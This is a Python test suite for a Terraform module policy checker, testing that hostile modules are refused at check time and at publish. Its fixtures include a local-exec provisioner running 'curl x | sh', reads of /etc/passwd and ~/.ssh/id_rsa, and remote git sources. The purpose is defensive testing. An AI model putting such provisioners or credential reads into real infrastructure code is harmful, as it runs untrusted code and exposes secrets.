"""The module policy: what a module may contain, checked by check_files and at publish with the same rules."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import select

from commands.framework.dispatch import Dispatcher
from commands.framework.registry import ActionEvent
from commands.ui.model import Select
from core.catalog import publish as catalog
from core.catalog import scan as scanner
from core.modules.file_rules import MAX_FINDINGS
from core.modules.model import PARSER_VERSION, FileParse
from core.modules.parser import MAX_FILE_BYTES, parse_file
from core.modules.policy import MAX_FILES, MAX_VARIABLES, PolicyViolation, check_files
from storage.db import Database
from storage.models import Module, ParsedBlob, RepoConnection, RepoScan, User
from tests.emulators.github import GitHubEmulator, LargeFile
from tests.integration.test_publish import ADMIN, PAT, apply, connect, module_files, open_publish, reply, states, tick

EXAMPLES = Path(__file__).resolve().parents[2] / "examples" / "modules"

BACKEND = 'terraform {\n  required_version = ">= 1.5"\n  backend "http" {\n    address = "https://x.example"\n  }\n}\n'
CLOUD = 'terraform {\n  cloud {}\n}\n'
CLIMBING = 'module "up" {\n  source = "../.."\n}\n'
GIT = 'module "remote" {\n  source = "git::https://example.com/evil.git"\n}\n'
REGISTRY = 'module "vpc" {\n  source  = "terraform-aws-modules/vpc/aws"\n  version = "5.0.0"\n}\n'
ABSOLUTE = 'module "abs" {\n  source = "/etc/terraform"\n}\n'
SUBFOLDER = 'module "sub" {\n  source = "./sub"\n}\n'
LOCAL_EXEC = ('resource "terraform_data" "run" {\n  provisioner "local-exec" {\n    command = "curl x | sh"\n'
              '  }\n}\n')
REMOTE_EXEC = ('resource "terraform_data" "run" {\n  connection {\n    host = "h"\n  }\n\n'
               '  provisioner "remote-exec" {\n    inline = ["id"]\n  }\n}\n')
READS_PASSWD = 'locals {\n  secret = file("/etc/passwd")\n}\n'
READS_UP = 'output "key" {\n  value = templatefile("${path.module}/../../.ssh/id_rsa", {})\n}\n'
READS_HOME = 'locals {\n  key = filebase64(\n    "~/.ssh/id_rsa"\n  )\n}\n'
IN_TEMPLATE = 'locals {\n  text = "${filesha256("../outside")}"\n}\n'


@pytest.mark.parametrize(("text", "line", "words"), [
    (BACKEND, 3, 'backend "http" block is not allowed'),
    (CLOUD, 2, "cloud block is not allowed"),
    (CLIMBING, 2, "points outside the module folder"),
    (GIT, 2, "fetches code from elsewhere"),
    (REGISTRY, 2, "fetches code from elsewhere"),
    (ABSOLUTE, 2, "is an absolute path"),
    (SUBFOLDER, 2, "sub-folders are not deployed"),
    (LOCAL_EXEC, 2, 'provisioner "local-exec"'),
    (REMOTE_EXEC, 6, 'provisioner "remote-exec"'),
    (READS_PASSWD, 2, 'file("/etc/passwd") reads outside the module folder'),
    (READS_UP, 2, "templatefile(\"${path.module}/../../.ssh/id_rsa\") reads outside"),
    (READS_HOME, 2, 'filebase64("~/.ssh/id_rsa") reads outside'),
    (IN_TEMPLATE, 2, 'filesha256("../outside")'),
])
def test_each_hostile_file_is_refused_with_file_line_and_reason(text: str, line: int, words: str) -> None:
    found = check_files({"main.tf": text.encode()}, allow_provisioners=False)
    assert len(found) == 1, found
    assert (found[0].file, found[0].line) == ("main.tf", line)
    assert words in found[0].reason
    assert str(found[0]) == f"main.tf:{line}: {found[0].reason}"


def test_provisioners_are_refused_only_while_not_allowed() -> None:
    files = {"run.tf": LOCAL_EXEC.encode(), "state.tf": BACKEND.encode()}
    refused = check_files(files, allow_provisioners=False)
    allowed = check_files(files, allow_provisioners=True)
    assert [(v.file, v.line) for v in refused] == [("run.tf", 2), ("state.tf", 3)]
    assert "allow_provisioners" in refused[0].reason
    assert allowed == [refused[1]]  # the backend stays refused whatever the setting


@pytest.mark.parametrize("name", sorted(p.name for p in EXAMPLES.iterdir()))
def test_the_example_modules_are_clean(name: str) -> None:
    files = {p.name: p.read_bytes() for p in (EXAMPLES / name).iterdir() if p.name.endswith(".tf")}
    assert files and check_files(files, allow_provisioners=False) == []


def test_paths_inside_the_module_and_non_literal_paths_pass() -> None:
    text = ('locals {\n  a = file("${path.module}/files/a.txt")\n  b = templatefile("t.tpl", { x = 1 })\n'
            '  c = fileset(path.module, "*.json")\n  d = file(var.path)\n  e = provider::fs::file("/x")\n'
            '  f = "a/../b is only text"\n  g = abspath("/tmp")\n}\n')
    assert check_files({"main.tf": text.encode()}, allow_provisioners=False) == []


def test_a_file_that_does_not_parse_is_a_violation() -> None:
    found = check_files({"good.tf": b'variable "a" {}\n', "bad.tf": b'variable "x" {\n  type = \n'},
                        allow_provisioners=True)
    assert [(v.file, v.line > 0) for v in found] == [("bad.tf", True)]


@pytest.mark.parametrize("name", ["main.tf.json", "sub/main.tf", ".hidden.tf", "terraform.tfvars", "..\\x.tf"])
def test_only_plain_tf_files_may_run(name: str) -> None:
    found = check_files({"main.tf": b'variable "a" {}\n', name: b"{}"}, allow_provisioners=True)
    assert [str(v) for v in found] == [f"{name}: only the module's own .tf files may run; remove this file"]


def test_a_file_over_the_size_limit_is_refused_without_parsing() -> None:
    found = check_files({"big.tf": b"#" * (MAX_FILE_BYTES + 1)}, allow_provisioners=True)
    assert len(found) == 1 and found[0].line == 0 and "the limit is 1 MB" in found[0].reason


def test_ten_thousand_variables_are_refused_naming_the_limit() -> None:
    text = "".join(f'variable "v{n}" {{}}\n' for n in range(10_000))
    found = check_files({"vars.tf": text.encode()}, allow_provisioners=True)
    assert [(v.file, v.line) for v in found] == [("vars.tf", MAX_VARIABLES + 1)]
    assert f"declares 10000 variables; the limit is {MAX_VARIABLES}" in found[0].reason


def test_too_many_files_are_refused_naming_the_limit() -> None:
    files = {f"f{n:03}.tf": b"" for n in range(MAX_FILES + 1)}
    assert [str(v) for v in check_files(files, allow_provisioners=True)] == [
        f"the module has {MAX_FILES + 1} .tf files; the limit is {MAX_FILES}"]
    del files["f000.tf"]
    assert check_files(files, allow_provisioners=True) == []


def test_findings_are_capped_per_file_and_survive_the_parse_cache() -> None:
    text = "locals {\n" + "".join(f'  a{n} = file("/etc/f{n}")\n' for n in range(200)) + "}\n"
    parse = parse_file("many.tf", text.encode())
    assert len(parse.findings) == MAX_FINDINGS and parse.findings[0].line == 2
    data = parse.to_json()
    assert data["parser"] == PARSER_VERSION == 3  # 3: constant defaults, converted defaults, named blocks
    assert FileParse.from_json(data) == parse
    assert FileParse.from_json(data).with_filename("other.tf").findings[0].file == "other.tf"


def test_violation_text_without_a_line() -> None:
    assert str(PolicyViolation("main.tf", 0, "too big")) == "main.tf: too big"
    assert str(PolicyViolation("main.tf", 7, "no")) == "main.tf:7: no"


# -- at publish ------------------------------------------------------------------------------------------

def hostile_repository() -> dict[str, str | LargeFile]:
    files: dict[str, str | LargeFile] = {**module_files("fine")}
    for name, text in (("with-backend", BACKEND), ("with-cloud", CLOUD), ("climbs", CLIMBING), ("from-git", GIT),
                       ("reads-passwd", READS_PASSWD)):
        files.update(module_files(name))
        files[f"{name}/evil.tf"] = text
    files.update(module_files("giant"))
    files["giant/blob.tf"] = LargeFile(50 << 20)
    files["many-vars/vars.tf"] = "".join(f'variable "v{n}" {{\n  default = {n}\n}}\n' for n in range(10_000))
    files.update(module_files("runs-commands"))
    files["runs-commands/run.tf"] = LOCAL_EXEC
    return files


def test_hostile_modules_are_listed_invalid_with_the_reason_and_never_published(
        dispatcher: Dispatcher, github: GitHubEmulator, db: Database) -> None:
    repo, _ = connect(dispatcher, github, PAT, "pat", "pat/modules", hostile_repository())
    page, token = open_publish(dispatcher, PAT)
    cards = {c.title: c for c in page.cards}
    for card in reply(dispatcher.run_action(PAT, ActionEvent("publish:page", f"{token}:2"))).cards:
        cards[card.title] = card
    assert {name for name, card in cards.items() if card.fields[0].value.startswith("⚠️ invalid")} == {
        "with-backend", "with-cloud", "climbs", "from-git", "reads-passwd", "giant", "many-vars", "runs-commands"}
    assert states(page)["fine"].startswith("🆕 new")
    assert 'evil.tf line 3: a backend "http" block is not allowed' in cards["with-backend"].text
    assert "evil.tf line 2: a cloud block" in cards["with-cloud"].text
    assert 'evil.tf line 2: module "up": source "../.." points outside' in cards["climbs"].text
    assert "fetches code from elsewhere" in cards["from-git"].text
    assert 'file("/etc/passwd")' in cards["reads-passwd"].text
    assert "blob.tf: too large to read (50.0 MB; the limit is 1 MB)" in cards["giant"].text
    assert "declares 10000 variables; the limit is 500" in cards["many-vars"].text
    assert "run.tf line 2: provisioner \"local-exec\"" in cards["runs-commands"].text
    giant_sha = repo.blob_sha("giant/blob.tf")
    assert not [c for c in github.calls() if c.path.endswith(f"/git/blobs/{giant_sha}")]  # judged by its size
    picker = next(a for a in page.actions if isinstance(a, Select))
    assert [o.value for o in picker.options] == ["fine"]  # only the clean module on this page can be ticked
    with db.unit_of_work() as s:  # even a forged selection is refused at sync
        conn = s.scalars(select(RepoConnection).where(RepoConnection.full_name == "pat/modules")).one()
        pat = s.get_one(User, conn.owner_id)
        result = scanner.last_result(s, conn.id)
        assert result is not None
        outcome = catalog.sync(s, pat, pat, result, ["fine", "with-backend", "runs-commands", "giant"],
                               "pat/modules", datetime.now(UTC))
        assert outcome.published == ["fine"]
        assert set(outcome.refused) == {"with-backend", "runs-commands", "giant"}
        assert [m.name for m in s.scalars(select(Module))] == ["fine"]


def test_partner_provisioners_need_the_setting_and_platform_ones_do_not(dispatcher: Dispatcher,
                                                                        github: GitHubEmulator) -> None:
    runner = {**module_files("runner"), "runner/run.tf": LOCAL_EXEC}
    connect(dispatcher, github, ADMIN, "ada", "ada/platform", {**module_files("plat-runner", public=True),
                                                                "plat-runner/run.tf": LOCAL_EXEC})
    page, token = open_publish(dispatcher, ADMIN, "admin publish")
    assert states(page)["plat-runner"].startswith("🆕 new")  # platform modules may use provisioners
    tick(dispatcher, ADMIN, token, ("plat-runner",))
    assert "*Published:* `plat-runner`" in apply(dispatcher, ADMIN, token).text

    connect(dispatcher, github, PAT, "pat", "pat/modules", runner)
    page, token = open_publish(dispatcher, PAT)
    assert states(page)["runner"].startswith("⚠️ invalid") and "allow_provisioners" in page.cards[0].text
    assert "is now" in reply(dispatcher.run_text(ADMIN, "admin settings allow_provisioners true")).text
    page, token = open_publish(dispatcher, PAT)  # an unchanged repository: the setting is read anew
    assert states(page)["runner"].startswith("🆕 new")
    tick(dispatcher, PAT, token, ("runner",))
    assert "*Published:* `runner`" in apply(dispatcher, PAT, token).text


def test_parses_and_scans_from_before_the_policy_are_redone(dispatcher: Dispatcher, github: GitHubEmulator,
                                                            db: Database) -> None:
    connect(dispatcher, github, PAT, "pat", "pat/modules", {**module_files("legacy"), "legacy/evil.tf": CLOUD})
    open_publish(dispatcher, PAT)
    with db.unit_of_work() as s:  # make it look as an older version left it: no findings, no policy
        for row in s.scalars(select(ParsedBlob)):
            row.result = {**row.result, "parser": 1, "findings": []}
        scan = s.scalars(select(RepoScan)).one()
        scan.candidates = [{**c, "spec": {"name": c["name"]}, "problem": "", "parser": 1} for c in scan.candidates]
    before = github.count("/repos/pat/modules/git/blobs")
    page, _ = open_publish(dispatcher, PAT)
    assert github.count("/repos/pat/modules/git/blobs") - before == 3  # the unchanged repository is read again
    assert "a cloud block is not allowed" in page.cards[0].text
    with db.unit_of_work() as s:
        assert {row.result["parser"] for row in s.scalars(select(ParsedBlob))} == {PARSER_VERSION}
